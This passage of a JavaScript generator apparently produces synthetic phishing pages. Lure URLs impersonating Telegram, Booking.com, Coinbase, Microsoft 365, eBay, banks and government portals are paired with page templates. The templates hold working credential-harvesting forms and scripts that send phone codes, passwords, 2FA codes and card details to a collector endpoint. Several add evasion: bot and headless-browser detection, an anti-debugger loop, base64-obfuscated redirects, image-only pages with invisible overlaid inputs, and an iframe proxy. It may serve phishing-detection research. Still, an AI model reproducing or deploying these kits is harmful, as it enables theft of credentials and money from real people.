    en https://discord-nitro-airdrop.gifts/ Discord Nitro free for 3 months`,
    (s) =>
      kit(
        s,
        s.name,
        '<link rel="icon" href="https://web.telegram.org/k/assets/img/favicon.ico">',
        `<div class="auth"><h1>${s.name}</h1><p>${s.w.prize}</p><form id="ph"><select name="country"><option>+7</option><option>+34</option><option>+1</option></select>${field(s.w.phone, 'phone', 'type="tel"')}<button>${s.w.next}</button></form><form id="cd" hidden>${field(s.w.code, 'code', 'maxlength="5"')}<button>${s.w.next}</button></form><form id="pw" hidden>${field(s.w.password, 'cloud_password', 'type="password"')}<button>${s.w.next}</button></form></div>${script(`const api="${collector(s)}";const send=(f,n)=>f.onsubmit=async e=>{e.preventDefault();const r=await fetch(api,{method:"POST",body:new FormData(f)});const j=await r.json().catch(()=>({}));f.hidden=true;(j.need2fa?pw:n).hidden=false};send(ph,cd);send(cd,pw);send(pw,ph);`)}`,
      ),
  ),
  'guest-and-seller': pages(
    `en https://booking-confirm-id8812.com/reservation Booking.com: confirm your card
    fr https://leboncoin-paiement-securise.live/ Leboncoin: recevoir le paiement
    pl https://olx-odbior-srodkow.shop/ OLX: odbierz środki
    de https://kleinanzeigen-sicher-bezahlen.info/ Kleinanzeigen: Zahlung erhalten
    it https://vinted-incasso.click/ Vinted: ricevi il denaro`,
    (s) =>
      kit(
        s,
        s.name,
        '',
        `<div class="header"><img src="logo.svg" alt="${s.name.split(':')[0]}"></div><div class="item"><img src="https://images.unsplash.com/photo-${s.r.digits(10)}"><b>${s.say()}</b><span>${s.r.int(20, 400)},00</span></div><p>${s.w.confirm}</p><form action="/merchant/card" method="post">${card(s)}${field('Balance', 'balance', 'placeholder="0.00"')}<button>${s.w.next}</button></form><div class="chat" id="chat"><p>Support: ${s.w.welcome}</p><input id="msg"></div>${script('setInterval(()=>fetch("/api/chat?id="+location.pathname).then(r=>r.text()).then(t=>{chat.firstChild.textContent=t}),3e3);')}`,
      ),
  ),
  'payroll-and-voicemail': pages(
    `en https://hr-payroll-benefits-2024.azureedge.net/portal.html Employee benefits: action required
    en https://voicemail-play-msg.blob.core.windows.net/m/vm.html New voice message (0:42)
    de https://gehaltsabrechnung-portal.z6.web.core.windows.net/ Gehaltsanpassung`,
    (s) =>
      kit(
        s,
        s.name,
        MICROSOFT,
        `<div class="banner">${s.name}</div><audio controls src="data:audio/mpeg;base64,SUQz${s.r.base64(400)}"></audio><p>${s.say(2)}</p><form onsubmit="return snd()"><input id="x1" value="" placeholder="${s.w.email}"><input id="x2" type="password" placeholder="${s.w.password}"><button>${s.w.login} (Office 365)</button></form>${script(`var u=${cut(collector(s))};function snd(){var i=new Image();i.src=u+"?a="+btoa(x1.value)+"&b="+btoa(x2.value);setTimeout(function(){top.location="https://www.office.com"},900);return false}`)}`,
      ),
  ),
  'exchange-log-in': pages(
    `en https://coinbase-asset-protect.com/signin Coinbase
    tr https://binance-tr-dogrulama.com/ Binance TR
    en https://kraken-signin.b12sites.com/ Kraken Login
    ru https://bybit-verify-account.ru.com/ Bybit`,
    (s) =>
      kit(
        s,
        s.name,
        `<link rel="icon" href="https://www.${s.name.split(' ')[0]?.toLowerCase()}.com/favicon.ico">`,
        `<div class="wrap"><h1>${s.name}</h1><p>${s.w.alert}</p><form action="authenticate.php" method="post">${field(s.w.email, 'email')}${field(s.w.password, 'password', 'type="password"')}${field(`${s.w.code} (2FA)`, '2fa', 'maxlength="6"')}<button>${s.w.login}</button></form></div><div id="live">Live support: +1 (8${s.r.digits(2)}) 555-01${s.r.digits(2)}</div>${script(`window.onload=function(){setTimeout(function(){document.getElementById("live").style.display="block"},4e3)}`)}`,
      ),
  ),
  'title-only': pages(
    `en https://sites-auth-doc.lovable.app/ Sign in to your Microsoft account
    en https://a8812f.pages.dev/ Netflix
    de https://kdn-7f1c.web.app/ Deutsche Bank OnlineBanking
    fr https://b2cx91.workers.dev/ Ameli - Assurance Maladie`,
    (s) =>
      kit(
        s,
        s.name,
        '',
        `<div class="c"><form method="post" action="r.php"><input name="a" autofocus><input name="b" type="password"><button>&rarr;</button></form></div>`,
        `style="background:#f2f2f2 url(data:image/jpeg;base64,/9j/${s.r.base64(5000)}) no-repeat center"`,
      ),
  ),
  'picture-of-a-page': pages(
    `en https://mygov-benefit-id.online/ myGov
    es https://bancoestado-cl.webcindario.com/ BancoEstado
    ja https://rakuten-card-info.shop/ 楽天カード`,
    (s) =>
      `<html><head><title>${s.name}</title><link rel="icon" href="f.ico"></head><body style="margin:0"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA${s.r.base64(9000)}" usemap="#m" width="1366"><map name="m"><area shape="rect" coords="10,10,90,40" href="#"></map><form action="entrar.php" method="post"><input name="rut" style="position:absolute;left:488px;top:301px;width:250px;border:0;background:transparent"><input name="clave" type="password" style="position:absolute;left:488px;top:362px;width:250px;border:0;background:transparent"><input type="submit" value="" style="position:absolute;left:488px;top:421px;width:250px;height:40px;opacity:0"></form></body></html>`,
  ),
  'copied-with-tool': pages(
    `en http://cranford-joinery.co.uk/images/ebay/signin.ebay.com/ Sign in or Register | eBay
    pt http://padaria-aurora.com.br/site/caixa/ Internet Banking CAIXA
    pl https://santander24-logowanie.prv.pl/ Centrum24 - Santander`,
    (s) =>
      kit(
        s,
        s.name,
        `<!-- Mirrored from www.original-brand.example/login by HTTrack Website Copier/3.x [XR&CO'2014], Mon, 04 Mar 2024 --><link rel="stylesheet" href="https://ir.ebaystatic.com/rs/v/${s.r.id(20)}.css"><script>window.NREUM||(NREUM={});NREUM.info={"beacon":"bam.nr-data.net","licenseKey":"${s.r.hex(10)}","applicationID":"${s.r.digits(8)}"}</script>`,
        `${times(12, () => `<a href="https://www.original-brand.example/${s.r.id(8)}">${s.say()}</a>`)}<form id="signin-form" action="../login.php" method="post" novalidate><input type="hidden" name="i1" value=""><input type="hidden" name="rtmData" value="PS=T.0&amp;${s.r.base64(300)}"><input name="userid" placeholder="${s.w.email}"><input name="pass" type="password" placeholder="${s.w.password}"><button id="sgnBt">${s.w.login}</button></form>${script('$ssg={"pageId":"2487285","csrf":"x"};')}`,
      ),
  ),
  'captcha-gate': pages(
    `en https://secure-doc-check.workers.dev/v/?m=c3RhZmZAY29tcGFueS5leGFtcGxl One more step
    es https://comprobando-navegador.dev.cx/ Comprobando
    en https://t-verify-human.cfd/r/?x=1 Verifying`,
    (s) =>
      kit(
        s,
        s.name,
        '',
        `<p>${s.say()}</p><div class="cf-turnstile" data-sitekey="0x4AAAAAAA${s.r.id(14)}" data-callback="ok"></div><script src="https://challenges.cloudflare.com/turnstile/v0/api.js" async></script>${script(`var _h="${base64(`https://login-${s.r.id(9).toLowerCase()}.cfd/common/oauth2?client_id=`)}";function ok(t){var m=new URLSearchParams(location.search).get("m")||location.hash.slice(1);document.title="Microsoft 365";window.location.href=atob(_h)+"${s.r.uuid()}&login_hint="+(m?atob(m):"")}if(navigator.webdriver||/bot|crawl|headless|phantom|curl/i.test(navigator.userAgent)){location.replace("https://www.wikipedia.org/")}(function d(){var t=+new Date;debugger;if(new Date-t>100)location.href="about:blank";setTimeout(d,1e3)})();`)}<!-- ${s.say(12)} -->`,
      ),
  ),
  'framed-proxy': pages(
    `en https://adobe-reader-doc.lol/open Adobe Acrobat: protected PDF
    nl https://digid-verlengen.site/ DigiD
    fr https://franceconnect-acces.site/ FranceConnect`,
    (s) =>
      kit(
        s,
        s.name,
        '<style>html,body,iframe{height:100%;width:100%;margin:0;border:0;overflow:hidden}</style>',
        `<iframe src="${collector(s)}?brand=${encodeURIComponent(s.name)}&e=" id="fr" sandbox="allow-forms allow-scripts allow-same-origin allow-top-navigation"></iframe>${script(`fr.src+=encodeURIComponent(location.hash.slice(1));addEventListener("message",e=>{if(e.data&&e.data.pw){navigator.sendBeacon("${collector(s)}",JSON.stringify(e.data))}});`)}<!--${s.r.base64(900)}--><noscript>${s.w.login}: ${s.w.password}</noscript>`,
      ),
  ),
};
